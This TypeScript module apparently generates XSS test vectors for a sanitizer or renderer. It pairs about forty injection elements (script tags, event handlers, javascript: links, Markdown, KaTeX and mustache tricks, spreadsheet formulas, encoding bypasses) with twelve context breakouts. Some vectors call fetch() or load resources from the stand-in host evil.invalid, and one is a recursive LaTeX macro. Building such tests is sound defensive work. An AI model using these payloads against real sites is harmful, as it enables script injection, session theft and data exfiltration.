/** Where a vector that ran leaves its trace, and where it would call. */
export const CANARY = 'maniculePwned';
export const EVIL = 'https://evil.invalid/';

const RUN = `window.${CANARY}=1;alert(1)`;
const FETCH = `fetch('${EVIL}f')`;

/** Elements that run something, each in the ways of the well-known cheat sheets. */
const ELEMENTS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt >${code}</sCrIpT >`,
  (code) => `<script/src=data:text/javascript,${code}></script>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<img/src=x\tonerror\n=${code}//`,
  (code) => `<img src="${EVIL}i" onload="${code}">`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  (code) => `<math href="javascript:${code}">x</math>`,
  (code) => `<body onload=${code}>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<video><source onerror=${code}></video>`,
  (code) => `<audio src=x onerror=${code}>`,
  (code) => `<details open ontoggle=${code}>x</details>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<select autofocus onfocus=${code}>`,
  (code) => `<style>@import '${EVIL}c';</style><p style="animation-name:x" onanimationstart=${code}>`,
  (code) => `<link rel=stylesheet href="${EVIL}s" onload=${code}>`,
  () => `<meta http-equiv=refresh content="0;url=${EVIL}m">`,
  () => `<base href="${EVIL}">`,
  (code) => `<form action="${EVIL}" id=f></form><button form=f formaction="javascript:${code}" autofocus>x</button>`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<a href="jav&#x09;ascript:${code}">x</a>`,
  (code) => `[x](javascript:${code})`,
  (code) => `[x](data:text/html,<script>${code}</script>)`,
  (code) => `![x](${EVIL}p "x\\" onerror=${code} \\"")`,
  (code) => `[x]: javascript:${code}\n\n[x]`,
  (code) => `<javascript:${code}>`,
  (code) => `$\\href{javascript:${code}}{x}$`,
  () => `$\\includegraphics{${EVIL}g}$ $\\url{javascript:alert(1)}$`,
  (code) => `$\\htmlStyle{background:url(${EVIL}h)}{x}$ $\\htmlData{x="${code}"}{x}$`,
  () => '$\\def\\a{\\a\\a}\\a$',
  (code) => `{{{${code}}}}{{=<% %>=}}<%& x %>`,
  (code) => `=HYPERLINK("javascript:${code}")`,
  (code) => `\u0000<\u0000script>${code}</script>`,
  (code) => `＜script＞${code}＜/script＞`,
];

/** What a text could stand in, to be broken out of. */
const BREAKS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  ']]>',
  '\n\n```\n',
];

/** Each element out of each place: over five hundred. */
export const VECTORS: readonly string[] = BREAKS.flatMap((before) =>
  ELEMENTS.map((element, at) => before + element(at % 3 === 2 ? FETCH : RUN)),
);
